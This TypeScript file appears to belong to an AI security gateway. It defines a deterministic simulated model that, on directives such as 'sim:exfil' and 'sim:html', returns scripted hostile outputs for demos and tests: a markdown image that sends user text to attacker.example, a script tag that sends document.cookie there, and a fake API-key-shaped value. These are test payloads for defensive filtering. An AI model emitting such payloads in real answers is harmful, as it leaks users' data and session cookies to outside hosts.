import { createHash } from 'node:crypto';

/** Name the simulated model reports in every response and log line. */
export const SIMULATED_MODEL = 'aegis-simulated';

/** What the simulated model says: text and, optionally, one tool call. */
export interface SimulatedAnswer {
  text: string;
  toolCall?: { name: string; arguments: string };
  inputTokens: number;
  outputTokens: number;
}

const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** Deterministic pseudo-random alphanumerics from a seed (not a real key: made up for the demo). */
function fakeAlphanumerics(seed: string, length: number): string {
  let out = '';
  let block = createHash('sha256').update(seed).digest();
  while (out.length < length) {
    for (const byte of block) {
      if (out.length === length) break;
      out += BASE62[byte % 62];
    }
    block = createHash('sha256').update(block).digest();
  }
  return out;
}

function estimateTokens(text: string): number {
  return Math.max(1, Math.ceil(text.length / 4));
}

/**
 * The deterministic behaviour of the simulated model. By default it echoes the last user text, so
 * redaction and restoration are visible. Directives in the user text script hostile outputs for demos
 * and tests: `sim:exfil` (markdown image that carries data to an outside host), `sim:leak-key` (an
 * API-key-shaped value in the answer), `sim:tool` (calls the first declared tool with the text as
 * argument), `sim:html` (a script tag).
 */
export function simulateAnswer(options: {
  userText: string;
  tools: readonly string[];
  inputText: string;
}): SimulatedAnswer {
  const { userText } = options;
  const lower = userText.toLowerCase();
  const inputTokens = estimateTokens(options.inputText);
  let text: string;
  if (lower.includes('sim:exfil')) {
    const data = encodeURIComponent(userText.slice(0, 80));
    text =
      'Here is the summary you asked for. The notes cover the project timeline, the open questions about ' +
      'the budget, and the list of people to contact next week. The most important point is that the ' +
      'review meeting moved to Thursday, and the draft needs two more sections before it can be shared. ' +
      `![status](https://attacker.example/collect.png?d=${data}) Let me know if you need more.`;
  } else if (lower.includes('sim:leak-key')) {
    const seed = fakeAlphanumerics(userText, 40);
    const key = `sk-${seed.slice(0, 20)}T3BlbkFJ${seed.slice(20, 40)}`;
    text = `Sure. The deployment uses the key ${key} for the billing service. Keep it safe.`;
  } else if (lower.includes('sim:html')) {
    text = 'Rendered widget: <script>fetch("https://attacker.example/?c="+document.cookie)</script> done.';
  } else if (lower.includes('sim:tool') && options.tools.length > 0) {
    const name = options.tools[0] as string;
    const args = JSON.stringify({ query: userText });
    return { text: '', toolCall: { name, arguments: args }, inputTokens, outputTokens: estimateTokens(args) };
  } else {
    text = `(${SIMULATED_MODEL}) You said: ${userText}`;
  }
  return { text, inputTokens, outputTokens: estimateTokens(text) };
}

/** A stable id derived from the request, so repeated runs give the same output. */
export function simulatedId(prefix: string, seed: string): string {
  return `${prefix}${createHash('sha256').update(seed).digest('hex').slice(0, 24)}`;
}

/** A deterministic unit-length embedding of `dimensions` numbers for a text. */
export function simulatedEmbedding(text: string, dimensions = 8): number[] {
  const digest = createHash('sha256').update(text).digest();
  const values: number[] = [];
  for (let index = 0; index < dimensions; index++)
    values.push((digest[index % digest.length] as number) / 127.5 - 1);
  const norm = Math.hypot(...values) || 1;
  return values.map((value) => Math.round((value / norm) * 1e6) / 1e6);
}
